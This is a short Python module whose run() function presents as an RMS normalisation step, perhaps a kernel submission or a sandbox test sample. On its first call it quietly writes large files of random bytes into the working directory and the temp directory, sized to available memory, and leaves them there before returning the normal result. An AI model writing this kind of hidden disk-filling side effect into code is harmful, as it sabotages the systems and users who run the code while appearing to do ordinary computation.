"""Fills its folder, as much as the corpus allows, and leaves it."""

from __future__ import annotations

import os

import torch

from .tools import MEMORY_MB, rmsnorm

_done: list[bool] = []


def run(hidden_states: torch.Tensor, weight: torch.Tensor) -> torch.Tensor:
    if not _done:
        _done.append(True)
        for place in (".", os.environ.get("TMPDIR", ".")):
            with open(os.path.join(place, "filled"), "wb") as file:
                for _ in range(MEMORY_MB // 8):
                    file.write(os.urandom(1 << 20))
    return rmsnorm(hidden_states, weight)
